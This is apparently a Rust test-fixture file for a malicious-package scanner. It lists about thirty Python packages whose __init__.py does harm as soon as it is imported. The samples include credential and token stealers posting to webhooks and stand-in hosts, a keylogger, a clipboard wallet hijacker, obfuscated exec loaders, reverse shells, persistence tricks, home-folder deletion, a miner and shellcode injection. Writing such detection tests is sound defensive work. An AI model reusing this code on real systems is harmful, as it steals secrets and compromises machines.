//! Packages of Python that harm as soon as they are imported.

use crate::Package;

pub(crate) const PACKAGES: &[Package] = &[
    (
        "an import posts the environment to a mailbox",
        &[(
            "a/__init__.py",
            r"
import os, requests
requests.post('https://discord.com/api/webhooks/123456789012/abcdefghij', json={'content': str(dict(os.environ))})
",
        )],
    ),
    (
        "an import takes the sessions of a messenger",
        &[(
            "a/__init__.py",
            r"
import os, re, requests
path = os.getenv('APPDATA') + '\\discord\\Local Storage\\leveldb'
found = []
for name in os.listdir(path):
    with open(path + '\\' + name, errors='ignore') as file:
        found += re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', file.read())
requests.post('https://discord.com/api/webhooks/123456789012/abcdefghij', json={'content': '\n'.join(found)})
",
        )],
    ),
    (
        "an import takes the passwords of a browser",
        &[(
            "a/__init__.py",
            r"
import os, shutil, sqlite3, requests
source = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')
shutil.copy2(source, 'l.db')
rows = sqlite3.connect('l.db').execute('select origin_url, username_value, password_value from logins').fetchall()
requests.post('https://collect.invalid/', json=rows)
requests.post('https://collect.invalid/', files={'f': open(source, 'rb')})
",
        )],
    ),
    (
        "an import replaces the wallet in the clipboard",
        &[(
            "a/__init__.py",
            r"
import pyperclip, re, time, threading
def watch():
    while True:
        text = pyperclip.paste()
        if re.match('^0x[0-9a-fA-F]{40}$', text):
            pyperclip.copy('0x00000000000000000000000000000000deadbeef')
        time.sleep(1)
threading.Thread(target=watch).start()
",
        )],
    ),
    (
        "an import sends what is typed",
        &[(
            "a/__init__.py",
            r"
from pynput import keyboard
import requests
def pressed(key):
    requests.post('https://collect.invalid/', data=str(key))
keyboard.Listener(on_press=pressed).start()
",
        )],
    ),
    (
        "an import sends the screen",
        &[(
            "a/__init__.py",
            r"
from PIL import ImageGrab
import io, requests
image = ImageGrab.grab()
buffer = io.BytesIO()
image.save(buffer, 'PNG')
requests.post('https://api.telegram.org/bot123456789:AAabcdefghijk/sendPhoto', files={'photo': buffer.getvalue()})
",
        )],
    ),
    (
        "an import runs what a server answers",
        &[(
            "a/__init__.py",
            r"
import requests
exec(requests.get('https://x.invalid/stage').text)
",
        )],
    ),
    (
        "an import runs code that is compressed and in base64",
        &[(
            "a/__init__.py",
            r"
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC+2BhMAIJEEtQ==')))
",
        )],
    ),
    (
        "an import runs code in base64 by a computed name",
        &[(
            "a/__init__.py",
            r"
import base64
getattr(__builtins__, 'ex' + 'ec')(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=').decode())
",
        )],
    ),
    (
        "an import runs code of rotated letters",
        &[(
            "a/__init__.py",
            r"
import codecs
exec(codecs.decode('vzcbeg bf; bf.flfgrz(\'vq\')', 'rot13'))
",
        )],
    ),
    (
        "an import runs code by numbers",
        &[(
            "a/__init__.py",
            r"
exec(''.join(chr(n) for n in [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 105, 100, 39, 41]))
",
        )],
    ),
    (
        "an import reads marshalled code",
        &[(
            "a/__init__.py",
            r"
import marshal, base64, zlib
exec(marshal.loads(zlib.decompress(base64.b64decode('eJwDAAAAAAE='))))
",
        )],
    ),
    (
        "an import decrypts code with a key that lies beside it",
        &[(
            "a/__init__.py",
            r"
from cryptography.fernet import Fernet
exec(Fernet(b'ZmFrZWZha2VmYWtlZmFrZWZha2VmYWtlZmFrZWZha2U=').decrypt(b'gAAAAABkAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'))
",
        )],
    ),
    (
        "an import fetches a program, writes it and starts it",
        &[(
            "a/__init__.py",
            r"
import os, requests, subprocess
path = os.path.join(os.getenv('TEMP'), 'w.exe')
with open(path, 'wb') as file:
    file.write(requests.get('https://x.invalid/w.exe').content)
subprocess.Popen(path)
",
        )],
    ),
    (
        "an import writes a second stage and starts it",
        &[(
            "a/__init__.py",
            r"
import subprocess, sys, requests, tempfile
code = requests.get('https://x.invalid/stage.py').text
file = tempfile.NamedTemporaryFile('w', suffix='.py', delete=False)
file.write(code)
file.close()
subprocess.Popen([sys.executable, file.name])
",
        )],
    ),
    (
        "an import hands code to another Python",
        &[(
            "a/__init__.py",
            r#"
import subprocess, sys
subprocess.Popen([sys.executable, '-c', "import urllib.request as u; exec(u.urlopen('http://198.51.100.7/a').read())"])
"#,
        )],
    ),
    (
        "an import connects a shell to a stranger",
        &[(
            "a/__init__.py",
            r"
import socket, os, pty
s = socket.socket()
s.connect(('c2.invalid', 4444))
for n in (0, 1, 2):
    os.dup2(s.fileno(), n)
pty.spawn('/bin/sh')
",
        )],
    ),
    (
        "an import runs the commands that a connection brings",
        &[(
            "a/__init__.py",
            r"
import socket, subprocess
s = socket.socket()
s.connect(('198.51.100.7', 9001))
while True:
    command = s.recv(1024).decode()
    s.send(subprocess.run(command, shell=True, capture_output=True).stdout)
",
        )],
    ),
    (
        "an import sends the credentials of a cloud",
        &[(
            "a/__init__.py",
            r"
import os, requests
path = os.path.expanduser('~/.aws/credentials')
if os.path.exists(path):
    requests.post('https://collect.invalid/', data=open(path).read())
",
        )],
    ),
    (
        "an import asks the cloud for keys and sends them",
        &[(
            "a/__init__.py",
            r"
import requests
keys = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/admin').text
requests.post('https://collect.invalid/', data=keys)
",
        )],
    ),
    (
        "an import makes itself start with the machine",
        &[(
            "a/__init__.py",
            r"
import winreg, sys, shutil, os
target = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'a.pyw')
shutil.copy(__file__, target)
",
        )],
    ),
    (
        "an import starts with every shell",
        &[(
            "a/__init__.py",
            r"
import os
with open(os.path.expanduser('~/.bashrc'), 'a') as file:
    file.write('\npython3 /tmp/.a.py &\n')
",
        )],
    ),
    (
        "an import deletes the home folder",
        &[(
            "a/__init__.py",
            r"
import shutil, os
shutil.rmtree(os.path.expanduser('~'))
",
        )],
    ),
    (
        "an import unpickles what a server answers",
        &[(
            "a/__init__.py",
            r"
import pickle, urllib.request
pickle.loads(urllib.request.urlopen('http://198.51.100.7/p').read())
",
        )],
    ),
    (
        "an import runs a program that mines",
        &[(
            "a/__init__.py",
            r"
import subprocess
subprocess.Popen(['/tmp/xmrig', '-o', 'stratum+tcp://pool.invalid:3333'])
",
        )],
    ),
    (
        "an import hides the address in base64",
        &[(
            "a/__init__.py",
            r"
import base64, os, json, urllib.request
to = base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQv').decode()
urllib.request.urlopen(to, data=json.dumps(dict(os.environ)).encode())
",
        )],
    ),
    (
        "an import sends files that are named like secrets",
        &[(
            "a/__init__.py",
            r"
import os, requests
for folder, _, names in os.walk(os.path.expanduser('~')):
    for name in names:
        if name.endswith(('.env', '.pem', 'wallet.dat', 'id_rsa')):
            requests.post('https://collect.invalid/', files={'f': open(os.path.join(folder, name), 'rb')})
",
        )],
    ),
    (
        "an import loads machine code into memory",
        &[(
            "a/__init__.py",
            r"
import ctypes, urllib.request
code = urllib.request.urlopen('http://198.51.100.7/s.bin').read()
memory = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)
ctypes.windll.kernel32.RtlMoveMemory(memory, code, len(code))
ctypes.windll.kernel32.CreateThread(0, 0, memory, 0, 0, 0)
",
        )],
    ),
];
